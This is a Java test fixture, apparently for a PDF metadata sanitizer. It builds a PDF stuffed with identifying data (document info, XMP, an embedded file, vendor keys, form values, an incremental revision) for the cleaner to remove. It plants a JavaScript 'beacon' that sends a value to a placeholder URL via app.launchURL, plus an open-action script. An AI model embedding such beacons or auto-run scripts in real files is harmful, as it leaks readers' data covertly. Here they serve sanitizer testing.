package dev.postern.sanitize;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentInformation;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.JPEGFactory;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Calendar;
import java.util.List;
import java.util.Map;

/** Builds a PDF carrying every kind of identifying data the PDF cleaner must drop. */
final class PdfFixtures {
    private PdfFixtures() {
    }

    static byte[] planted() throws IOException {
        byte[] first;
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A5);
            doc.addPage(page);
            PDImageXObject photo = JPEGFactory.createFromByteArray(doc, Fixtures.jpeg(32, 24, 1));
            try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
                cs.beginText();
                cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
                cs.newLineAtOffset(40, 500);
                cs.showText("Visible statement");
                cs.endText();
                cs.drawImage(photo, 40, 300, 64, 48);
            }
            PDDocumentInformation info = doc.getDocumentInformation();
            info.setAuthor(Fixtures.ARTIST);
            info.setTitle(Fixtures.TITLE);
            info.setProducer(Fixtures.SERIAL);
            info.setCreationDate(Calendar.getInstance());
            PDMetadata xmp = new PDMetadata(doc, new ByteArrayInputStream(Fixtures.xmpPacket()));
            doc.getDocumentCatalog().setMetadata(xmp);

            PDEmbeddedFile ef = new PDEmbeddedFile(doc, new ByteArrayInputStream(
                    ("attachment by " + Fixtures.OWNER).getBytes(StandardCharsets.US_ASCII)));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("notes.txt");
            spec.setEmbeddedFile(ef);
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("notes.txt", spec));
            PDJavascriptNameTreeNode js = new PDJavascriptNameTreeNode();
            js.setNames(Map.of("beacon", new PDActionJavaScript("app.launchURL('http://x/?" + Fixtures.COMMENT + "')")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            names.setJavascript(js);
            doc.getDocumentCatalog().setNames(names);
            doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("this.print('" + Fixtures.COMMENT + "')"));

            PDAnnotationText note = new PDAnnotationText();
            note.setRectangle(new PDRectangle(100, 100, 20, 20));
            note.setTitlePopup(Fixtures.ARTIST);
            note.setContents("reviewed");
            // Vendor keys nobody lists: only an allow-list drops these.
            note.getCOSObject().setString(COSName.getPDFName("XOwner"), Fixtures.OWNER);
            page.getCOSObject().setString(COSName.getPDFName("XDept"), Fixtures.SERIAL);
            page.getAnnotations().add(note);

            PDAcroForm form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            PDTextField field = new PDTextField(form);
            field.setPartialName("name");
            form.setFields(List.of(field));
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(40, 200, 200, 20));
            widget.setPage(page);
            page.getAnnotations().add(widget);
            form.setNeedAppearances(true);
            field.getCOSObject().setString(COSName.V, Fixtures.DATUM);

            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
            first = out.toByteArray();
        }
        // A second revision appended as an incremental update: the first one stays in the bytes.
        try (PDDocument doc = Loader.loadPDF(first)) {
            doc.getDocumentInformation().setTitle("Revised");
            doc.getDocumentInformation().getCOSObject().setNeedToBeUpdated(true);
            // saveIncremental writes the original bytes followed by the update.
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.saveIncremental(out);
            return out.toByteArray();
        }
    }
}
